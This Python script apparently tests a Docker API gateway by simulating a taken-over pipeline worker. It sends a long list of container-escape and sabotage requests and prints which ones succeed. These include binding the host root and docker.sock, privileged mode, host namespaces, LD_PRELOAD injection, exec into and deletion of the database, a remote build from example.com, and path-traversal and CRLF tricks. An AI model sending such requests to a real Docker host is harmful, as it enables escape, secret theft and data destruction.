"""What a worker that somebody else has taken over would try with the Docker engine. Runs inside the worker.

Reads from standard input {"postgres": container, "stage": container}: one of the stack's services, and a stage at work.
Prints {name: [status, message]} for each attempt, and for what a pipeline needs under the names that begin with `needed`.
"""

import copy
import http.client
import json
import os
import sys
import urllib.parse
from typing import Any

sys.path.insert(0, "/dags")
from containers import container_of, host_config
from stages import STAGES

HOST = urllib.parse.urlsplit(os.environ["DOCKER_HOST"]).netloc
PROJECT = os.environ["HEART_PROJECT"]
V = "/v1.45"
there = json.load(sys.stdin)
wanted = container_of(STAGES["train"], PROJECT)
CREATION: dict[str, Any] = {
    "Image": wanted.image,
    "Env": ["HEART_RUN=escape", *(f"{name}={value}" for name, value in wanted.environment.items())],
    "Labels": {**wanted.labels, **{f"heart.{name}": "escape" for name in ("dag", "run", "task", "try")}},
    "HostConfig": host_config(wanted),
}


def ask(method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, str]:
    """Return the gateway's status and message."""
    connection = http.client.HTTPConnection(HOST, timeout=30)
    connection.request(method, path, body, {"Content-Type": "application/json"} | (headers or {}))
    answer = connection.getresponse()
    said = b"" if answer.status == 101 else answer.read(2_000)
    try:
        return answer.status, json.loads(said)["message"]
    except (ValueError, KeyError, TypeError):
        return answer.status, said.decode(errors="replace")[:200]


def create(**changes: object) -> tuple[int, str]:
    """Try to create a container that differs from a stage's; HostConfig_x changes that part of HostConfig."""
    body = copy.deepcopy(CREATION)
    for name, value in changes.items():
        if name.startswith("HostConfig_"):
            body["HostConfig"][name.removeprefix("HostConfig_")] = value
        else:
            body[name] = value
    return ask("POST", f"{V}/containers/create?name={PROJECT}-train-escape", json.dumps(body).encode())


def mount(**mount: object) -> tuple[int, str]:
    """Try to create a stage with one mount more."""
    return create(HostConfig_Mounts=[*CREATION["HostConfig"]["Mounts"], mount])


def variable(entry: str) -> tuple[int, str]:
    """Try to create a stage with one variable more."""
    return create(Env=[*CREATION["Env"], entry])


text = json.dumps(CREATION)
found = {
    "privileged": create(HostConfig_Privileged=True),
    "bind of the root": create(HostConfig_Binds=["/:/host"]),
    "bind of the root as a mount": mount(Type="bind", Source="/", Target="/host"),
    "bind of the engine's socket": mount(Type="bind", Source="/var/run/docker.sock", Target="/var/run/docker.sock"),
    "volume that is a bind": mount(Type="volume", Source="x", Target="/host", VolumeOptions={"DriverConfig": {
        "Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}}),
    "volume of the database": mount(Type="volume", Source=f"{PROJECT}_postgres", Target="/db"),
    "credentials of another stage": mount(Type="volume", Source=f"{PROJECT}_secrets_load", Target="/other"),
    "artifacts of another stage's right": create(HostConfig_Mounts=[
        m | {"ReadOnly": False} for m in CREATION["HostConfig"]["Mounts"]]),
    "volumes of another container": create(HostConfig_VolumesFrom=[there["postgres"]]),
    "host pid": create(HostConfig_PidMode="host"),
    "host network": create(HostConfig_NetworkMode="host"),
    "another's network": create(HostConfig_NetworkMode=f"container:{there['postgres']}"),
    "network of the services": create(HostConfig_NetworkMode=f"{PROJECT}_backend"),
    "host ipc": create(HostConfig_IpcMode="host"),
    "host users": create(HostConfig_UsernsMode="host"),
    "host cgroup": create(HostConfig_CgroupnsMode="host", HostConfig_CgroupParent="/"),
    "a capability": create(HostConfig_CapAdd=["SYS_ADMIN"]),
    "capabilities kept": create(HostConfig_CapDrop=[]),
    "unconfined": create(HostConfig_SecurityOpt=["seccomp=unconfined", "apparmor=unconfined"]),
    "a device": create(HostConfig_Devices=[{"PathOnHost": "/dev/kmsg", "PathInContainer": "/dev/kmsg"}]),
    "writable root": create(HostConfig_ReadonlyRootfs=False),
    "another runtime": create(HostConfig_Runtime="io.containerd.runc.v2-other"),
    "no limit of memory": create(HostConfig_Memory=0),
    "a port": create(HostConfig_PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "8000"}]}),
    "no HostConfig": create(HostConfig=None),
    "foreign image": create(Image="docker.io/library/alpine:latest"),
    "an image of ours that is no stage": create(Image="heart/airflow:dev"),
    "a stage's image by its id": create(Image="sha256:" + "0" * 64),
    "another command": create(Cmd=["python", "-c", "print(1)"]),
    "another entrypoint": create(Entrypoint=["/bin/sh"]),
    "root": create(User="0"),
    "another working folder": create(WorkingDir="/run/secrets"),
    "networks at creation": create(NetworkingConfig={"EndpointsConfig": {f"{PROJECT}_backend": {}}}),
    "health check as a command": create(Healthcheck={"Test": ["CMD", "sh"]}),
    "code by a variable": variable("PYTHONPATH=/artifacts"),
    "library by a variable": variable("LD_PRELOAD=/artifacts/x.so"),
    "another database": variable("PGHOST=198.51.100.1"),
    "another file of credentials": variable("MLFLOW_CREDENTIALS=/artifacts/x"),
    "no labels": create(Labels={}),
    "another project's labels": create(Labels=CREATION["Labels"] | {"heart.project": "other"}),
    "a key in other letters": create(hostconfig={"Privileged": True}),
    "a part of HostConfig in other letters": create(HostConfig_privileged=True),
    "a key twice": ask("POST", f"{V}/containers/create?name={PROJECT}-train-escape",
                       text.replace('"Init": true', '"Init": true, "Privileged": true, "Privileged": false').encode()),
    "HostConfig twice": ask("POST", f"{V}/containers/create?name={PROJECT}-train-escape",
                            (text[:-1] + ', "HostConfig": {"Privileged": true}}').encode()),
    "a body in pieces": ask("POST", f"{V}/containers/create?name={PROJECT}-train-escape", text.encode(),
                            {"Transfer-Encoding": "chunked"}),
    "a foreign name": ask("POST", f"{V}/containers/create?name=mine", text.encode()),
    "another platform": ask("POST", f"{V}/containers/create?name={PROJECT}-train-escape&platform=linux/arm64", text.encode()),
    "exec in a stage": ask("POST", f"{V}/containers/{there['stage']}/exec", b'{"Cmd": ["sh"], "Privileged": true}'),
    "exec in the database": ask("POST", f"{V}/containers/{there['postgres']}/exec", b'{"Cmd": ["psql", "-U", "postgres"]}'),
    "attach": ask("POST", f"{V}/containers/{there['stage']}/attach?stream=1&stdin=1"),
    "files of a stage": ask("GET", f"{V}/containers/{there['stage']}/archive?path=/run/secrets"),
    "files into a stage": ask("PUT", f"{V}/containers/{there['stage']}/archive?path=/tmp", b"x"),
    "export": ask("GET", f"{V}/containers/{there['stage']}/export"),
    "other limits": ask("POST", f"{V}/containers/{there['stage']}/update", b'{"Memory": 0}'),
    "look at the database": ask("GET", f"{V}/containers/{there['postgres']}/json"),
    "log of the database": ask("GET", f"{V}/containers/{there['postgres']}/logs?stdout=1"),
    "stop the database": ask("POST", f"{V}/containers/{there['postgres']}/stop"),
    "remove the database": ask("DELETE", f"{V}/containers/{there['postgres']}?force=1&v=1"),
    "join the services": ask("POST", f"{V}/networks/{PROJECT}_backend/connect",
                             json.dumps({"Container": there["stage"]}).encode()),
    "let the database join": ask("POST", f"{V}/networks/{PROJECT}_mlflow/connect",
                                 json.dumps({"Container": there["postgres"]}).encode()),
    "join under another name": ask("POST", f"{V}/networks/{PROJECT}_mlflow/connect", json.dumps(
        {"Container": there["stage"], "EndpointConfig": {"Aliases": ["mlflow"]}}).encode()),
    "a network": ask("POST", f"{V}/networks/create", b'{"Name": "x"}'),
    "a volume that is a bind of the root": ask("POST", f"{V}/volumes/create", b'{"Name": "x", "DriverOpts": {"device": "/"}}'),
    "remove a volume": ask("DELETE", f"{V}/volumes/{PROJECT}_postgres?force=1"),
    "pull": ask("POST", f"{V}/images/create?fromImage=alpine&tag=latest"),
    "build": ask("POST", f"{V}/build?remote=https://example.com/x.git"),
    "load an image": ask("POST", f"{V}/images/load", b"x"),
    "give a stage's tag away": ask("POST", f"{V}/images/heart/mlflow:dev/tag?repo=heart/train&tag=dev"),
    "commit": ask("POST", f"{V}/commit?container={there['stage']}&repo=heart/train&tag=dev"),
    "look at a foreign image": ask("GET", f"{V}/images/heart/mlflow:dev/json"),
    "every container": ask("GET", f"{V}/containers/json?all=1&sync=1"),
    "events": ask("GET", f"{V}/events"),
    "the machine": ask("GET", f"{V}/info"),
    "swarm": ask("POST", f"{V}/swarm/init", b"{}"),
    "plugins": ask("POST", f"{V}/plugins/pull?remote=x"),
    "session": ask("POST", f"{V}/session", b"", {"Upgrade": "h2c"}),
    "up the path": ask("GET", f"{V}/containers/../images/json"),
    "up the path, encoded": ask("GET", f"{V}/containers/%2e%2e%2fimages/json"),
    "a path with a line's end": ask("GET", f"{V}/containers/x%0d%0aHost:x/json"),
    "without a version": ask("POST", "/containers/create?name=x", text.encode()),
    "another method": ask("PATCH", f"{V}/containers/{there['stage']}/json"),
    "needed: the stage's state": ask("GET", f"{V}/containers/{there['stage']}/json"),
    "needed: a stage": create(),
    "needed: its end": ask("DELETE", f"{V}/containers/{PROJECT}-train-escape?force=True&v=True"),
}  # fmt: skip
print(json.dumps(found))
